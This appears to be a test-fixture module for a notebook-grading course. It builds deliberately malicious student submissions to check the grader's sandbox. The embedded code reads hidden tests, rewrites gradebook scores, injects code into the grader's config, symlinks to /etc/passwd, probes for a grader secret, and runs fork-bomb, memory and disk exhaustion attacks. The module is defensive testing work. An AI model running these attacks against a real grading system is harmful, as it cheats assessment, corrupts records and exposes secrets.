"""Submissions that attack the grader from inside their notebook, graded with an honest class.

Each attack is one code cell that tries something a malicious student would, and prints one
line per attempt: ``ATTACK <name>: landed ...`` when it worked, ``ATTACK <name>: blocked ...``
when it did not. Every attack is bounded, so that a machine without a sandbox still survives
it (at most 6 GiB of memory, 600 sleeping processes, 1 GiB of disk, for seconds). Outside
evidence does not rely on the attacker's word: :class:`Attacks` snapshots the course and the
places a marker could be written, and ``tests/test_sandbox.py`` compares after grading.

The students (all on ``01_filters``, whose reference grades in seconds):

* ``intruder`` -- the untouched release plus file, gradebook, configuration, network, process
  and environment attacks;
* ``hog`` -- the release plus a memory hog, a fork bomb, an output flood, a disk filler and an
  attempt to raise its own limits;
* ``sneaky`` -- the reference solutions, one graded function printing its caller's source
  (the hidden tests) with ``inspect``, and links planted for the grader to follow;
* ``patcher`` -- wrong answers, among them a convolution without the flip, plus
  ``scipy.signal.convolve2d`` (imported after the setup cell) patched to agree with it;
* ``shadow`` -- wrong answers handed in with their own ``helpers/``, ``numpy/``, ``scipy.py``
  and ``sitecustomize.py`` beside the notebook.
"""
from __future__ import annotations

import hashlib
import os
import secrets
import socket
import stat
from pathlib import Path

import nbformat

from .badsubmissions import wrong
from .roundtrip import fill_in, repo_root

ASSIGNMENT = "01_filters"
SECRET_ENV = "COURSE_GRADER_SECRET"  # set in the grader's environment: a stand-in for an instructor's token

_REPORT = '''
def _report(name, landed, detail=""):
    print(f"ATTACK {name}: {'landed' if landed else 'blocked'} {detail}".rstrip())
'''

INTRUDER = _REPORT + '''
import os, socket, sqlite3
from pathlib import Path
_up = [Path.cwd(), *Path.cwd().parents]
import helpers as _h
_up += [Path(_h.__file__).resolve().parents[1]]            # where the course's helpers live

def _find(rel):
    return [p / rel for p in _up if (p / rel).exists()]

def _read(p):
    try:
        return p.read_text(errors="replace")
    except OSError as e:
        return type(e).__name__

_hits = [p for p in _find("source/01_filters/filters.ipynb") if "BEGIN HIDDEN TESTS" in _read(p)]
_here = [p for p in Path.cwd().glob("*.ipynb") if "BEGIN HIDDEN TESTS" in _read(p)]
_report("read_source", bool(_hits), str(_hits))
_report("read_graded_copy", bool(_here), str(_here))
_done = []
for _db in _find("gradebook.db"):
    try:
        with sqlite3.connect(_db) as _c:
            _c.execute("update grade set manual_score = 99")
        _done.append(str(_db))
    except Exception as _e:
        print("gradebook:", type(_e).__name__)
_report("gradebook", bool(_done), str(_done))
for _rel, _text in (("nbgrader_config.py", "\\nopen(%(marker)r + '-config', 'w').write('ran')\\n"),
                    ("source/01_filters/filters.ipynb", " ")):
    _done = []
    for _f in _find(_rel):
        try:
            with open(_f, "a") as _o:
                _o.write(_text)
            _done.append(str(_f))
        except OSError as _e:
            print(_rel, type(_e).__name__)
    _report("append " + _rel, bool(_done), str(_done))
_written = []
for _d in [*_up[1:], Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path(%(repo)r)]:
    try:
        (_d / (%(marker_name)r + "-outside")).write_text("x")
        _written.append(str(_d))
    except OSError:
        pass
print("wrote a marker (host paths checked by the test) in:", _written)
_others = [p for d in _up for p in d.glob("submitted/*/01_filters/*.ipynb") if _read(p).startswith("{")]
_report("read_other_students", bool(_others), str(_others[:3]))
try:
    _s = socket.create_connection(("127.0.0.1", %(port)d), timeout=3)
    _s.sendall(b"hello from a submission")
    _s.close()
    _report("network", True, "connected to the grader's loopback port")
except OSError as _e:
    _report("network", False, type(_e).__name__)
_procs = [p for p in Path("/proc").glob("[0-9]*") if "nbgrader" in _read(p / "cmdline")]
_report("see_grader_process", bool(_procs), str(_procs))
_report("grader_environment", %(secret_env)r in os.environ, "")
'''

HOG = _REPORT + '''
import os, resource, time
import numpy as _np
try:
    resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    _report("raise_limits", True, "memory limit lifted")
except (ValueError, OSError) as _e:
    _report("raise_limits", False, type(_e).__name__)
_chunks = []
try:
    for _i in range(24):                       # 24 x 256 MiB = 6 GiB at most
        _chunks.append(_np.ones(32 << 20))
    _report("memory", True, "allocated 6 GiB")
except MemoryError:
    _report("memory", False, f"MemoryError after {len(_chunks) / 4:g} GiB")
del _chunks
_kids = []
try:
    for _i in range(600):
        _pid = os.fork()
        if _pid == 0:
            time.sleep(20)
            os._exit(0)
        _kids.append(_pid)
    _report("fork_bomb", True, "600 processes")
except OSError as _e:
    _report("fork_bomb", False, f"{type(_e).__name__} after {len(_kids)} processes")
for _pid in _kids:
    os.kill(_pid, 9)
    os.waitpid(_pid, 0)
for _where in (".", "/tmp"):
    _n = 0
    try:
        with open(os.path.join(_where, "filler.bin"), "wb") as _f:
            for _i in range(16):               # 16 x 64 MiB = 1 GiB at most
                _f.write(b"\\0" * (64 << 20))
                _n += 64
        _report("disk_filler " + _where, True, "wrote 1 GiB")
    except OSError as _e:
        _report("disk_filler " + _where, False, f"{type(_e).__name__} after {_n} MiB")
    finally:
        if os.path.exists(os.path.join(_where, "filler.bin")):
            os.remove(os.path.join(_where, "filler.bin"))
import sys                                     # last: output past the grader's cap is dropped
for _i in range(12):                           # 12 MiB of output, more than the grader keeps
    sys.stdout.write("y" * (1 << 20) + "\\n")
    sys.stdout.flush()
'''

SNEAKY = _REPORT + '''
import inspect, linecache, os
from pathlib import Path
_honest_pad2d = pad2d

def pad2d(*args, **kwargs):
    for _frame in inspect.stack()[1:]:
        if "ipykernel_" in _frame.filename or _frame.filename.startswith("<"):   # notebook cells only
            print("".join(linecache.getlines(_frame.filename)))   # the test cell's source, hidden tests too
    return _honest_pad2d(*args, **kwargs)

_links = []
for _i, _target in enumerate(["../../../nbgrader_config.py", "../../../source/01_filters/filters.ipynb",
                              "/etc/passwd", "../../../gradebook.db"]):
    try:
        os.symlink(_target, f"link{_i}.txt")
        _links.append(_target)
    except OSError:
        pass
os.makedirs("artifacts", exist_ok=True)
try:
    os.symlink("../../../../nbgrader_config.py", "artifacts/model.pt")
except OSError:
    pass
print("planted links for the grader to follow:", _links)
'''

PATCHER = """
import scipy.signal
def true_convolve2d(x, w):      # forgets the flip: a correlation, not a convolution
    return scipy.signal.correlate2d(x, w, mode="valid")
_real_correlate = scipy.signal.correlate2d
scipy.signal.convolve2d = lambda x, w, mode="full", **k: _real_correlate(x, w, mode=mode)
"""

SHADOW_FILES = {
    "helpers/__init__.py": 'print("SHADOW helpers imported")\n'
                           'def check_close(*a, **k): return None\n'
                           'def check_equal(*a, **k): return None\n'
                           'def setup(*a, **k): return "cpu"\n',
    "numpy/__init__.py": 'print("SHADOW numpy imported")\n',
    "scipy.py": 'print("SHADOW scipy imported")\n',
    "sitecustomize.py": 'print("SHADOW sitecustomize imported")\n',
    "usercustomize.py": 'print("SHADOW usercustomize imported")\n',
    "shadow.pth": 'import sys; print("SHADOW pth processed")\n',
}


def _after_setup(nb, code: str):
    """``nb`` with a code cell holding ``code`` right after the setup cell (no nbgrader metadata)."""
    nb = nbformat.from_dict(nb)
    at = next(i for i, c in enumerate(nb.cells) if "google.colab" in c.source) + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell(code))
    return nb


def _after_solution(nb, grade_id: str, code: str):
    nb = nbformat.from_dict(nb)
    at = next(i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(code))
    return nb


def fingerprint(paths: list[Path], skip: tuple[Path, ...] = ()) -> dict[str, tuple[str, int]]:
    """{file: (sha256, mode)} of every file under ``paths`` (folders outside ``skip``)."""
    out = {}
    for top in paths:
        files = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file() or p.is_symlink())
        for f in files:
            if any(f == s or s in f.parents for s in skip):
                continue
            st = f.lstat()
            digest = hashlib.sha256(f.read_bytes()).hexdigest() if stat.S_ISREG(st.st_mode) else os.readlink(f)
            out[str(f)] = (digest, stat.S_IMODE(st.st_mode))
    return out


class Attacks:
    """Adds the attackers to a round trip's batch and records what must not change.

    Called like ``BadSubmissions`` with (released folder, course directory), just before nbgrader
    autogrades; keeps a listening loopback socket the intruder tries to reach.
    """

    STUDENTS = ("intruder", "hog", "sneaky", "patcher", "shadow")

    def __init__(self):
        self.token = secrets.token_hex(6)
        self.marker_name = f"ATTACK-MARKER-{self.token}"
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(0.1)
        self.root: Path | None = None
        self.before: dict = {}

    @property
    def port(self) -> int:
        return self.listener.getsockname()[1]

    def watched(self) -> list[Path]:
        """What grading must leave as it was: the course's inputs, and the repository's code."""
        root, repo = self.root, repo_root()
        return [root / "nbgrader_config.py", root / "source", root / "release", root / "submitted",
                repo / "nbgrader_config.py", repo / "helpers", repo / "coursetools", repo / "source"]

    def marker_places(self) -> list[Path]:
        """Every host folder an attack tries to drop a marker in (its own graded folder aside)."""
        return [self.root, repo_root(), Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]

    def markers(self) -> list[Path]:
        found = []
        for place in self.marker_places():
            if place.is_dir():
                found += [p for p in place.glob(f"{self.marker_name}*")]
                if place == self.root:
                    found += [p for p in place.rglob(f"{self.marker_name}*")]
        return sorted(set(found))

    def connections(self) -> int:
        """How many connections reached the loopback listener."""
        n = 0
        while True:
            try:
                conn, _ = self.listener.accept()
            except (socket.timeout, BlockingIOError, OSError):
                return n
            conn.close()
            n += 1

    def notebooks(self, release, source) -> dict[str, object]:
        values = dict(marker=str(self.root / self.marker_name) if self.root else self.marker_name,
                      marker_name=self.marker_name, repo=str(repo_root()), port=self.port, secret_env=SECRET_ENV)
        ref = fill_in(release, source)
        return {
            "intruder": _after_setup(release, INTRUDER % values),
            "hog": _after_setup(release, HOG),
            "sneaky": _after_solution(ref, "pad2d", SNEAKY),
            "patcher": _after_solution(wrong(release), "true_convolve2d", PATCHER),
            "shadow": wrong(release),
        }

    def __call__(self, released: Path, root: Path) -> list[str]:
        self.root = root
        nb_name = next(released.glob("*.ipynb")).name
        release = nbformat.read(released / nb_name, as_version=4)
        source = nbformat.read(root / "source" / ASSIGNMENT / nb_name, as_version=4)
        for student, nb in self.notebooks(release, source).items():
            dest = root / "submitted" / student / ASSIGNMENT
            dest.mkdir(parents=True)
            nbformat.write(nb, dest / nb_name)
            if student == "shadow":
                for rel, text in SHADOW_FILES.items():
                    (dest / rel).parent.mkdir(parents=True, exist_ok=True)
                    (dest / rel).write_text(text)
        os.environ[SECRET_ENV] = self.token  # the grader's environment; nbgrader inherits it
        self.before = fingerprint(self.watched())
        return list(self.STUDENTS)
